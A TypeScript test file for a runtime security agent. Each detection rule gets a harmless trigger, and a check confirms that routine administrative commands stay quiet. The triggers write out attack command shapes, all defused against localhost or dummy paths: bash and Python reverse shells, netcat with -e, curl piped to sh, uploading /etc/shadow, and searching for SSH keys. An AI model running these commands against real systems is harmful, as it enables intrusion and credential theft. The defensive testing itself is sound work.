import { spawnSync } from 'node:child_process'
import { copyFileSync, existsSync, mkdirSync, rmdirSync, symlinkSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import defaults from '@cws/rules-default'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { type Line, RunningAgent } from '../support/agent.ts'
import { generator, runBelow, runFromSharedMemory, runMemoryFile, temporaryFolder } from '../support/triggers.ts'
import { nested, pidNamespace } from '../support/vantage.ts'

/** Nobody's account. */
const NOBODY = 65534

interface Deed {
  readonly argv0?: string
  readonly env?: Readonly<Record<string, string>>
}

/** Runs a program; how it ends is its own matter, that it ran is not. */
function run(program: string, args: readonly string[], { argv0, env }: Deed = {}): void {
  const { error } = spawnSync(program, args, {
    stdio: 'ignore',
    timeout: 20_000,
    env: { ...process.env, ...env },
    ...(argv0 === undefined ? {} : { argv0 }),
  })
  if (error) throw error
}

/** A copy of /bin/true under another name: it takes any arguments and does nothing with them. */
function runAs(name: string, args: readonly string[] = [], deed: Deed = {}): void {
  using folder = temporaryFolder()
  const program = join(folder.path, name)
  copyFileSync('/bin/true', program)
  run(program, args, deed)
}

/** The same in a session of its own: some rules make one signal a session, and in this one others may have made it already. */
function runInSession(name: string, ...args: string[]): void {
  using folder = temporaryFolder()
  const program = join(folder.path, name)
  copyFileSync('/bin/true', program)
  run('/usr/bin/setsid', ['--wait', program, ...args])
}

const runUnlinked = () => {
  using folder = temporaryFolder()
  const program = join(folder.path, 'dropped')
  copyFileSync('/bin/true', program)
  run(generator('process_shapes'), ['unlinked', 'mark', program])
}

/** A copy of /bin/true under another name, for a program that runs it. It goes with the file's tests. */
function copyAs(name: string): string {
  const program = join(copies.path, name)
  copyFileSync('/bin/true', program)
  return program
}
const copies = temporaryFolder()
afterAll(() => copies[Symbol.dispose]())

/** A script of this name, called to install something, starts a program. */
function runBelowScript(name: string, program: string): void {
  const script = join(copies.path, name)
  writeFileSync(script, `#!/bin/sh\n${program} 127.0.0.1 9\nexit 0\n`, { mode: 0o755 })
  run(script, ['install', 'nothing'])
}

/** A shell command that has a terminal of its own. */
const runAtTerminal = (command: string) => run('/usr/bin/script', ['-qec', command, '/dev/null'])

/** A shell command beside an overlay, whose upper layer is written after it was mounted, in a control group of a container. All of it is gone afterwards. */
function runInContainer(command: string): void {
  using folder = temporaryFolder()
  for (const name of ['lower', 'upper', 'work', 'merged']) mkdirSync(join(folder.path, name))
  const controller = ['/sys/fs/cgroup/memory', '/sys/fs/cgroup/pids', '/sys/fs/cgroup'].find((path) =>
    existsSync(join(path, 'cgroup.procs')),
  )
  const parent = join(controller as string, `cws-rules-${process.pid}`)
  const group = join(parent, `docker-${'ab'.repeat(32)}.scope`)
  mkdirSync(group, { recursive: true })
  try {
    const script = `mount -t overlay overlay -o lowerdir=lower,upperdir=upper,workdir=work merged
echo $$ > ${group}/cgroup.procs
${command}`
    const { status, stderr } = spawnSync('unshare', ['-m', 'sh', '-e', '-c', script], {
      cwd: folder.path,
      encoding: 'utf8',
      timeout: 20_000,
    })
    if (status !== 0) throw new Error(`the container did not run: ${stderr}`)
  } finally {
    rmdirSync(group)
    rmdirSync(parent)
  }
}

/** For each rule a deed that fires it and harms nobody: what is named is never done, and nothing leaves this host. */
const triggers: Readonly<Record<string, () => void>> = {
  'shell-from-web-server': () => runBelow('nginx', '/bin/sh', '-c', 'exit 0'),
  'recon-from-web-server': () => runBelow('apache2', '/usr/bin/whoami'),
  'shell-from-database': () => runBelow('postgres', '/bin/sh', '-c', 'exit 0'),
  'shell-from-java-server': () => runBelow('java', '/bin/sh', '-c', 'exit 0', 'org.apache.catalina.startup.Bootstrap'),
  'reverse-shell': () => run('/bin/bash', ['-c', 'false && bash -i >& /dev/tcp/127.0.0.1/9 0>&1']),
  'reverse-shell-by-netcat': () => runAs('nc', ['-e', '/bin/sh', '127.0.0.1', '9']),
  'reverse-shell-by-interpreter': () =>
    runAs('python3', ['-c', 'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));os.dup2(s.fileno(),0);pty.spawn("sh")']),
  'memfd-exec': () => runMemoryFile('payload'),
  'exec-from-memory-filesystem': () => void runFromSharedMemory('payload'),
  'executed-file-unlinked': runUnlinked,
  'hidden-executable': () => runAs('.update'),
  'kernel-thread-disguise': () => runAs('worker', [], { argv0: '[kworker/0:1]' }),
  'loader-run-by-hand': () => run('/lib64/ld-linux-x86-64.so.2', ['/bin/true']),
  'command-beyond-sight': () => run('/bin/sh', ['-c', `${' '.repeat(70_000)}:`]),
  'new-program-in-container': () => runInContainer('cp /bin/true merged/added; exec merged/added'),
  'decoder-piped-to-shell': () => run('/bin/sh', ['-c', 'false && echo aWQ= | base64 -d | sh']),
  'download-piped-to-shell': () => run('/bin/sh', ['-c', 'false && curl -fsSL http://127.0.0.1:9/x.sh | sh']),
  'credential-search': () => runInSession('find', '/home', '-name', 'id_rsa'),
  'password-file-read': () => runInSession('cat', '/etc/shadow'),
  'preload-from-writable-folder': () =>
    run('/usr/bin/setsid', ['--wait', '/bin/true'], { env: { LD_PRELOAD: '/tmp/cws-test-nowhere.so' } }),
  'set-id-exploit': () => runAs('pkexec', [], { argv0: '' }),
  // perl sets the real user alone; the shell gives up the other rights before it reads its command.
  'shell-with-set-id-rights': () => run('/usr/bin/perl', ['-e', `$< = ${NOBODY}; exec '/bin/sh', '-c', 'exit 0'`]),
  cryptominer: () => runAs('xmrig', ['-o', 'stratum+tcp://127.0.0.1:9']),
  'security-tool-stopped': () => runInSession('setenforce', '0'),
  'file-made-immutable': () => runInSession('chattr', '+i', '/nowhere'),
  'inline-code-fetched': () => runAs('python3', ['-c', 'from urllib.request import urlopen; exec(urlopen("http://127.0.0.1:9/").read())']),
  'inline-code-decoded': () => run('/usr/bin/perl', ['-e', 'exit; eval(decode_base64("MQ=="))']),
  'install-script-network-tool': () => runBelowScript('npm', copyAs('nc')),
  'temporary-program-from-server': () => runBelow('nginx', copyAs('dropped')),
  'download-from-web-server': () => runBelow('apache2', copyAs('curl'), 'http://127.0.0.1:9/x'),
  'ssh-from-server': () => runBelow('postgres', copyAs('ssh'), 'nobody@127.0.0.1'),
  'shell-from-network-service': () => runBelow('foomatic-rip', '/bin/sh', '-c', 'exit 0'),
  'service-account-shell': () => runAtTerminal(`setpriv --reuid=${NOBODY} --clear-groups /bin/sh -c 'exit 0'`),
  'ssh-tunnel-opened': () => runAs('ssh', ['-N', '-R', '2222:localhost:22', 'nobody@127.0.0.1']),
  'tunnel-program': () => runAs('chisel', ['client', '127.0.0.1:9', 'R:socks']),
  'tor-started': () => runAs('tor', ['-f', '/nowhere']),
  'listener-by-hand': () => runInSession('nc', '-l', '-p', '9'),
  'secret-sent-away': () => runInSession('curl', '-T', '/etc/shadow', 'http://127.0.0.1:9/'),
  'paste-site-contacted': () => runInSession('curl', '--upload-file', '/nowhere', 'https://transfer.sh/x'),
  'cloud-copy-tool': () => runAs('rclone', ['copy', '/nowhere', 'remote:x']),
  'data-in-dns-names': () => runInSession('dig', `${'0123456789abcdef'.repeat(3)}.invalid`),
  'daemon-disguise': () => runAs('systemd-worker'),
  'deceptive-file-name': () => runAs('invoice.pdf'),
  'timestamp-forged': () => runInSession('touch', '-r', '/bin/ls', '/usr/bin/cws-test-nowhere'),
  'history-switched-off': () => run('/usr/bin/setsid', ['--wait', '/bin/bash', '-c', ':'], { env: { HISTFILE: '/dev/null' } }),
  'kernel-log-cleared': () => runInSession('dmesg', '-C'),
  'process-hidden-by-mount': () => runInSession('mount', '--bind', '/nowhere', '/proc/1'),
  'firewall-switched-off': () => runInSession('iptables', '-F'),
  'strange-kernel-module': () => runInSession('insmod', '/tmp/cws-test-nowhere.ko'),
  'kernel-hook-written': () => runInSession('sysctl', '-w', 'kernel.core_pattern=|/nowhere'),
  'kernel-protection-weakened': () => runInSession('sysctl', '-w', 'kernel.randomize_va_space=0'),
  'kernel-replaced-at-run-time': () => runInSession('kexec', '-l', '/nowhere'),
  'cpu-registers-written': () => runInSession('wrmsr', '-a', '0x1a4', '0xf'),
  'host-namespace-entered': () => runInSession('nsenter', '-t', '1', '-m', 'true'),
  'host-disk-in-container': () => runInContainer('cp /bin/true merged/mount; exec merged/mount /dev/sda1 /nowhere'),
  'container-socket-used-by-hand': () => runInSession('curl', '--unix-socket', '/nowhere/docker.sock', 'http://x/'),
  'privileged-container-started': () => runInSession('docker', 'run', '--privileged', 'nothing'),
  'shell-in-container': () => runInContainer(`exec script -qec 'exec /bin/sh -c :' /dev/null`),
  'package-manager-in-container': () => runInContainer('cp /bin/true merged/apk; exec merged/apk add nothing'),
  'container-client-in-container': () => runInContainer('cp /bin/true merged/kubectl; exec merged/kubectl get secrets'),
}
/** Those about programs that run; those about files have tests of their own. */
const rules = defaults.rules.filter(({ on }) => on === 'exec')

let agent: RunningAgent
beforeAll(async () => {
  agent = await RunningAgent.start()
})
afterAll(() => agent?.[Symbol.asyncDispose]())

/**
 * Whether this process stands above what the signal is about: others on this machine have signals of their own. In a pid namespace of its own
 * this process has another pid in records, but whoever shares the namespace is ours.
 */
function isOurs({ event }: Line): boolean {
  const { process: subject } = event as { process?: { ns?: { pidns?: number }; ancestors?: readonly { pid: number }[] } }
  if (nested()) return subject?.ns?.pidns === pidNamespace
  return subject?.ancestors?.some(({ pid }) => pid === process.pid) ?? false
}

const ruleOf = (line: Line) => (line['rule'] as { id: string }).id

describe('each rule that comes with the agent', () => {
  it('has a trigger here, and each trigger a rule', () => {
    expect(Object.keys(triggers).sort()).toEqual(rules.map(({ id }) => id).sort())
  })

  it.each(Object.keys(triggers))('%s fires on the real thing', async (id) => {
    const from = agent.lines.length
    triggers[id]?.()
    const fits = (line: Line) => isOurs(line) && agent.lines.indexOf(line) >= from
    const signal = await agent.signal(id, fits)
    const rule = rules.find((one) => one.id === id)
    expect(signal).toMatchObject({ severity: rule?.severity, title: rule?.name, tags: rule?.tags })
    expect(signal['message']).not.toContain('{{')
  })
})

describe('ordinary work', () => {
  /** What administrators and machines do all day. Programs that are not installed are left out. */
  const work: readonly (readonly [program: string, ...args: string[]])[] = [
    ['ls', '-la', '/etc'],
    ['ps', 'aux'],
    ['df', '-h'],
    ['id'],
    ['git', 'log', '-1', '--oneline'],
    ['git', 'status', '--short'],
    ['tar', 'cf', 'archive.tar', 'hello.c'],
    ['gzip', '-kf', 'archive.tar'],
    ['apt-get', '-v'],
    ['dpkg', '-l', 'bash'],
    ['npm', '-v'],
    ['ssh', '-V'],
    ['curl', '--version'],
    ['openssl', 'version'],
    ['systemctl', '--version'],
    ['find', '/etc', '-maxdepth', '1', '-name', '*.conf'],
    ['grep', '-r', 'PATH', '/etc/profile.d'],
    ['grep', '-c', 'root', '/etc/passwd'],
    ['cat', '/etc/hostname'],
    ['sh', '-c', 'cd / && run-parts --report /nowhere/cron.hourly; exit 0'],
    ['sh', '-c', 'test -x /usr/sbin/anacron || true'],
    ['bash', '-c', 'for i in 1 2 3; do echo $i; done | sort -r | head -1'],
    ['sh', '-c', 'echo aGVsbG8= | base64 -d > decoded.txt'],
    ['python3', '-c', 'print(sum(range(10)))'],
    ['perl', '-e', 'print 1 + 1'],
    ['node', '-e', 'console.log(process.version)'],
    ['gcc', '-o', 'hello', 'hello.c'],
    ['./hello'],
    ['./run.sh'],
  ]

  it('raises nothing above low', async () => {
    using folder = temporaryFolder('/var/tmp')
    const inFolder = { cwd: folder.path, stdio: 'ignore', timeout: 60_000 } as const
    spawnSync(
      'sh',
      ['-c', `printf 'int main(void) { return 0; }\\n' > hello.c; printf '#!/bin/sh\\nexit 0\\n' > run.sh; chmod 755 run.sh`],
      inFolder,
    )
    symlinkSync('/etc/hostname', join(folder.path, 'link'))
    const from = agent.lines.length
    let ran = 0
    for (const [program, ...args] of work) if (spawnSync(program, args, inFolder).error === undefined) ran++
    expect(ran).toBeGreaterThan(20)
    // What comes after all of it has been judged: the signal of a last deed.
    const last = 'the last deed'
    runFromSharedMemory(last)
    const isLast = (line: Line) => JSON.stringify((line['event'] as { exec?: { argv?: unknown } }).exec?.argv) === JSON.stringify([last])
    await agent.signal('exec-from-memory-filesystem', isLast)
    const loud = agent.lines
      .slice(from)
      .filter((line) => line.kind === 'signal' && isOurs(line) && !isLast(line) && !['info', 'low'].includes(String(line['severity'])))
    expect(loud.map((line) => `${ruleOf(line)}: ${String(line['message'])}`)).toEqual([])
  })
})
